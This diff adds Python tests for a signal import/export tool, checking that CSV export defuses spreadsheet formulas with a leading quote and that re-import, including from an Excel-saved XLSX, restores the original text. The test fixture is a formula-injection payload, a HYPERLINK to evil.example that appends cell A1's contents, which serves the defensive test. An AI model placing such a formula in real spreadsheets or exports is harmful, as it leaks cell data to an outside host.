@@ -15,6 +15,7 @@ from app.cli import main
 from collectors.signal_import import import_signals, read_table
 from collectors.signals import validate_signal
 from onrust.paths import DATA_DIR
+from onrust.store import Store
 from onrust.store.signals import DuplicateSignal, SignalConflict
 
 NOW = datetime(2025, 11, 15, 10, 0, tzinfo=UTC)
@@ -281,6 +282,41 @@ def test_export_is_an_import_file_that_round_trips(store, tmp_path):
     (tmp_path / "export.csv").write_bytes(data)
     again = import_signals(store, tmp_path / "export.csv", incident_id=None, entered_by="x", now=NOW)
     assert [r.status for r in again.rows] == ["duplicate", "duplicate"]
+
+
+FORMULA = '=HYPERLINK("https://evil.example/?d="&A1,"Klik hier")'
+
+
+def test_export_neutralises_formulas_and_import_restores_the_text(store, tmp_path):
+    import csv
+
+    from collectors.signal_import import export_csv
+
+    with (tmp_path / "s.csv").open("w", encoding="utf-8", newline="") as fh:
+        writer = csv.writer(fh, delimiter=";")
+        writer.writerow(HEADER.split(";"))
+        writer.writerow([*ROWS[0].split(";")[:11], FORMULA, "@wijkteam"])
+    import_signals(store, tmp_path / "s.csv", incident_id=None, entered_by="analist", now=NOW)
+    frame = store.signals()
+    assert frame[["text", "entered_by"]].values.tolist() == [[FORMULA, "@wijkteam"]]
+    data = export_csv(frame.astype(object).where(frame.notna(), None).to_dict("records"))
+    line = data.decode("utf-8-sig").splitlines()[1]
+    assert line.endswith(""";"'=HYPERLINK(""https://evil.example/?d=""&A1,""Klik hier"")";'@wijkteam""")
+    (tmp_path / "export.csv").write_bytes(data)
+    with Store.open(tmp_path / "elders.duckdb") as elsewhere:
+        elsewhere.migrate()
+        import_signals(elsewhere, tmp_path / "export.csv", incident_id=None, entered_by="x", now=NOW)
+        assert elsewhere.signals()[["text", "entered_by"]].values.tolist() == [[FORMULA, "@wijkteam"]]
+
+
+def test_an_export_saved_as_xlsx_in_excel_imports_the_original_text(store, tmp_path):
+    """Excel shows the neutralising quote of a CSV cell as text; saved as XLSX it is still there."""
+    book = Workbook()
+    book.active.append(HEADER.split(";"))
+    book.active.append([*ROWS[0].split(";")[:11], "'" + FORMULA, "'-wijkteam"])
+    book.save(tmp_path / "uit-excel.xlsx")
+    import_signals(store, tmp_path / "uit-excel.xlsx", incident_id=None, entered_by="x", now=NOW)
+    assert store.signals()[["text", "entered_by"]].values.tolist() == [[FORMULA, "-wijkteam"]]
 
 
 def test_size_limits_refuse_the_whole_file(store, tmp_path):
